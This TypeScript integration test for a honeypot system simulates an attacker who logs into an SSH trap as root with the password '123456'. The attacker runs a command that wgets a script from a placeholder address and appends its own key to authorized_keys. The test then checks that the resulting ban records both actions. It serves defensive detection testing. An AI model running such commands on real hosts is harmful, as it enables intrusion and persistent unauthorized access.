// Issue 16 end to end: an attacker logs into the SSH trap with a common password, downloads and
// plants a key; trapd's capture reaches scand, and the ban enforcerd applies names the URL and the
// key's fingerprint (real ssh client, real trapd/scand/enforcerd, real XDP in a namespace pair).
import { afterAll, beforeAll, describe, expect, test } from "bun:test";
import { kernelSkipReason, pingOk } from "../kernel/harness.ts";
import { startEnforcingNode, type EnforcingNode } from "../support/enforcing-node.ts";
import type { NetnsPair } from "../support/netns.ts";
import type { NsNode } from "../support/ns-node.ts";

const skip = kernelSkipReason() ?? (Bun.which("sshpass") ? undefined : "sshpass is not installed (scripts/setup.sh installs it)");

describe.skipIf(Boolean(skip))("a trap shell session's download and planted key → TRAP ban naming them → dropped", () => {
  let pair: NetnsPair;
  let node: NsNode;
  let en: EnforcingNode;

  beforeAll(async () => {
    en = await startEnforcingNode({ services: ["enforcerd", "scand", "trapd"], env: () => ({ HONEYMESH_TRAPS_AUTH_DELAY_MS: "50" }) });
    ({ pair, node } = en);
  });
  afterAll(() => en?.stop());

  test("wget and an authorized_keys line over an exec request", async () => {
    const dir = (await pair.run("attacker", ["mktemp", "-d"])).stdout.trim();
    await pair.run("attacker", ["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-C", "bot", "-f", `${dir}/id`]);
    const pub = (await pair.run("attacker", ["cat", `${dir}/id.pub`])).stdout.trim();
    const fp = (await pair.run("attacker", ["ssh-keygen", "-l", "-f", `${dir}/id.pub`])).stdout.split(" ")[1]!;
    await pair.run("attacker", ["rm", "-rf", dir]);
    const cmd = `cd /tmp; wget http://203.0.113.50/bins/x.sh -O x; echo ${pub} >> ~/.ssh/authorized_keys`;
    const r = await pair.run("attacker", ["sshpass", "-p", "123456", "ssh", "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null", "-o", "PubkeyAuthentication=no", "-o", "ConnectTimeout=5", "-p", "2222", `root@${pair.victim.v4}`, cmd], 20_000);
    expect(r.stdout + r.stderr).toContain("Connecting to 203.0.113.50:80... failed");
    const ban = await node.waitLine((l) => l.topic === "hm/v1/enforcerd/ban" && l.d.address?.text === pair.attacker.v4 && (l.d.evidence as { summary: string }[]).some((e) => e.summary.startsWith("DOWNLOAD")), 15_000, "ban with DOWNLOAD evidence");
    const summaries = (ban.d.evidence as { kind: string; summary: string }[]).map((e) => e.summary);
    expect(summaries).toContain("DOWNLOAD: wget http://203.0.113.50/bins/x.sh");
    expect(summaries).toContain(`PERSISTENCE: authorized_keys ${fp}`);
    expect(Number(ban.d.reasons) & 1).toBe(1);
    expect(await pingOk(pair, "attacker", pair.victim.v4)).toBe(false);
  }, 90_000);
});
